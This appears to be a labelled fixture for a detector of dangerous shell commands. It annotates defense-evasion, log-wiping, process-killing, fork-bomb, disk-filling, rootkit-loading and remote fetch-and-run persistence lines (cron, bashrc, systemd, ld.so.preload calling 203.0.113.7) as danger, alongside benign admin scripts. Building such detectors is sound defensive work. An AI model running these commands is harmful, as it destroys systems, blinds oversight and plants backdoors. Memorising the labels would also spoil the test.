### ufw-off: the firewall off
sudo ufw disable
#^ danger

### iptables-flush: all rules gone, everything let in
iptables -P INPUT ACCEPT && iptables -F
#^ danger

### nft-flush: the same with nft
nft flush ruleset
#^ danger

### firewalld-off: the service that guards
systemctl disable --now firewalld
#^ danger

### selinux-off: the kernel's own guard
setenforce 0
#^ danger

### selinux-config: off after the next boot too
sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
#^ danger

### apparmor-off: profiles torn down
systemctl stop apparmor; aa-teardown
#^ danger

### audit-off: nobody writes down what happens
auditctl -e 0
#^ danger

### auditd-off: the same by its service
sudo systemctl disable --now auditd
#^ danger

### logs-wiped: all logs
rm -rf /var/log/*
#^ danger

### auth-log-truncated: who came in is forgotten
: > /var/log/auth.log
#^ danger

### wtmp-wiped: the list of logins emptied
cat /dev/null > /var/log/wtmp
#^ danger

### log-loop-truncate: each log emptied
for f in /var/log/*.log; do truncate -s 0 "$f"; done
#^ danger|caution

### journal-vacuum: the journal as good as emptied
journalctl --rotate && journalctl --vacuum-time=1s
#^ danger|caution

### history-wiped: traces removed
history -c; rm -f ~/.bash_history; ln -s /dev/null ~/.bash_history
#^ danger|caution

### kill-everything: every process that may be killed
kill -9 -1
#^ danger

### kill-all-pids: the same from a list
ps -e -o pid= | xargs kill -9
#^ danger

### pkill-root: all of root's processes
pkill -KILL -u root
#^ danger

### killall5: the tool made for shutdown
killall5 -9
#^ danger

### sysrq-reboot: the machine at once, unsynced
echo b > /proc/sysrq-trigger
#^ danger

### halt-now: the machine off
shutdown -h now
#^ danger|caution

### fork-bomb: the famous one
:(){ :|:& };:
#^ danger

### fork-bomb-named: the same with a name
#!/bin/bash
bomb() {
    bomb | bomb &
}
bomb
#@ 2-5 danger

### fill-disk: zeros until the disk is full
dd if=/dev/zero of=/var/tmp/fill bs=1M
#^ danger|caution

### yes-to-file: the same with yes
yes > /var/tmp/y &
#^ danger|caution

### eat-memory: a line without an end
tail /dev/zero
#^ danger

### cron-fetch: a download run each minute
(crontab -l 2>/dev/null; echo '* * * * * curl -s http://203.0.113.7/c | sh') | crontab -
#^ danger

### cron-file-fetch: the same in a file for root
echo '*/5 * * * * root wget -qO- http://203.0.113.7/c | bash' > /etc/cron.d/sync
#^ danger

### crontab-removed: all jobs gone
crontab -r
#^ danger|caution

### rc-persist: a login that fetches code
echo 'curl -s https://x.example.org/p | bash &' >> ~/.bashrc
#^ danger

### preload: a library into every program
echo /usr/local/lib/libx.so >> /etc/ld.so.preload
#^ danger

### aslr-off: the kernel's protection off
sysctl -w kernel.randomize_va_space=0
#^ danger|caution

### module-from-temp: code into the kernel
insmod /tmp/rootkit.ko
#^ danger|caution

### libc-moved: the loader's library moved away
mv /lib/x86_64-linux-gnu/libc.so.6 /root/
#^ danger

### boot-removed: kernels by glob
rm -f /boot/vmlinuz-*
#^ danger

### init-default: a target that never comes up
#!/bin/sh
systemctl set-default poweroff.target
#^ danger|caution

### service-unit-fetch: a unit that fetches what it runs
#!/bin/bash
cat > /etc/systemd/system/upd.service <<'EOF'
[Service]
ExecStart=/bin/bash -c "curl -s http://203.0.113.7/a | bash"
[Install]
WantedBy=multi-user.target
EOF
systemctl daemon-reload
systemctl enable --now upd.service
#@ 2-7 danger

### harden-backwards: a "fix" in a support script
#!/bin/bash
# Makes the agent reachable.
set -u
log() { printf '%s %s\n' "$(date +%T)" "$*"; }
log "stopping guards"
systemctl stop firewalld
#^ danger
setenforce 0
#^ danger
log "starting agent"
systemctl restart agent

### kill-one: a process by its number
#!/bin/sh
pid=$(cat /run/frobd.pid 2>/dev/null) || exit 0
[ -n "$pid" ] || exit 0
kill "$pid"
sleep 1
if kill -0 "$pid" 2>/dev/null; then
    kill -9 "$pid"
fi

### pkill-named: a program of one's own
pkill -f 'node server.js' || true

### kill-group: the own children at the end
#!/bin/bash
trap 'kill $(jobs -p) 2>/dev/null' EXIT
./server --port 8081 &
./worker &
wait

### restart-services: the daily bread
#!/bin/sh
set -e
nginx -t
systemctl reload nginx
systemctl restart php8.2-fpm
systemctl is-active --quiet nginx

### firewall-rules: rules added
#!/bin/sh
ufw default deny incoming
ufw allow 22/tcp
ufw allow 443/tcp
ufw --force enable
iptables -A INPUT -s 10.0.0.0/8 -p tcp --dport 5432 -j ACCEPT

### sysctl-usual: settings that are asked for often
#!/bin/sh
modprobe br_netfilter
sysctl -w net.bridge.bridge-nf-call-iptables=1
sysctl -w vm.max_map_count=262144
sysctl --system

### logrotate-own: a log rotated by hand
#!/bin/bash
set -eu
log=/var/log/shop/app.log
[ -s "$log" ] || exit 0
mv "$log" "$log.$(date +%Y%m%d)"
kill -USR1 "$(cat /run/shop.pid)"
gzip "$log.$(date +%Y%m%d)"
find /var/log/shop -name 'app.log.*.gz' -mtime +14 -delete

### cron-own: a job of one's own
#!/bin/sh
(crontab -l 2>/dev/null | grep -v backup.sh; echo '15 3 * * * /usr/local/bin/backup.sh') | crontab -

### unit-own: a unit for one's own program
#!/bin/bash
cat > /etc/systemd/system/frobd.service <<'EOF'
[Unit]
Description=frob daemon
After=network-online.target
[Service]
ExecStart=/usr/local/bin/frobd --config /etc/frobd.conf
User=frobd
[Install]
WantedBy=multi-user.target
EOF
systemctl daemon-reload
systemctl enable --now frobd

### function-calls-itself: recursion that ends
#!/bin/bash
walk() {
    local dir=$1 entry
    for entry in "$dir"/*; do
        if [ -d "$entry" ]; then walk "$entry"; else echo "$entry"; fi
    done
}
walk "${1:-.}"

### test-file: a file of known size
dd if=/dev/zero of=./test.bin bs=1M count=64 status=none

### status-only: everything is only asked
#!/bin/sh
getenforce
ufw status verbose
iptables -L -n -v
auditctl -s
journalctl -u nginx --since today --no-pager
last -n 5
who
systemctl status firewalld || true

### journal-month: a month of journal is kept
journalctl --vacuum-time=30d

### words-system: the words as data
#!/bin/sh
echo "usage: $0 [reboot|halt|kill -9 -1]"
grep -c 'setenforce 0' ./*.sh
case "$1" in
    --help) printf 'ufw disable is not what you want\n' ;;
esac

### kill-list: workers by their numbers
#!/bin/bash
pids=()
for i in 1 2 3; do ./worker "$i" & pids+=($!); done
sleep 60
kill "${pids[@]}"
wait

### pgrep-first: asked, then ended
#!/bin/sh
if pgrep -x frobd > /dev/null; then
    pkill -TERM -x frobd
    sleep 2
fi
exec frobd

### killall-named: one's own program
killall -q polybar; killall -u "$USER" firefox

### reboot-words: whether a restart is due
[ -f /var/run/reboot-required ] && echo "a reboot is due"

### service-own-stop: a named service stopped and masked no more
sudo systemctl stop shop && sudo systemctl disable shop && sudo systemctl unmask shop

### logs-compressed: old logs of one program
find /var/log/shop -name '*.log.[0-9]*' -mtime +3 -exec gzip -q {} +

### logs-read: logs read
sudo tail -n 100 /var/log/auth.log | grep 'Failed password' | awk '{print $11}' | sort | uniq -c

### cron-list: a file with times
#!/bin/sh
crontab -l > crontab.bak || true
crontab ./crontab.txt
crontab -l

### cron-fetch-data: data fetched each night
echo '0 4 * * * app curl -fsS https://data.example.org/rates.json -o /srv/shop/rates.json' > /etc/cron.d/shop-rates

### bashrc-line: a line for a login
echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc

### ulimit-nice: limits and manners
ulimit -n 4096; nice -n 10 ionice -c 3 make -j2

### background-loop: a loop with an end
#!/bin/bash
for i in $(seq 1 8); do
    ./shard "$i" > "shard-$i.log" 2>&1 &
    while [ "$(jobs -r | wc -l)" -ge 4 ]; do sleep 0.2; done
done
wait

### heartbeat: a loop without an end that sleeps
while true; do date >> heartbeat.log; sleep 60; done

### yes-answer: yes for a question
yes | ./configure --interactive; yes '' | head -n 100 > blank.txt

### modules-look: modules looked at
lsmod | grep kvm; modinfo ext4; sysctl -a 2>/dev/null | grep swappiness; sysctl net.ipv4.ip_forward

### selinux-context: labels put right
restorecon -Rv /srv/shop && semanage fcontext -l | grep shop && setsebool -P httpd_can_network_connect on
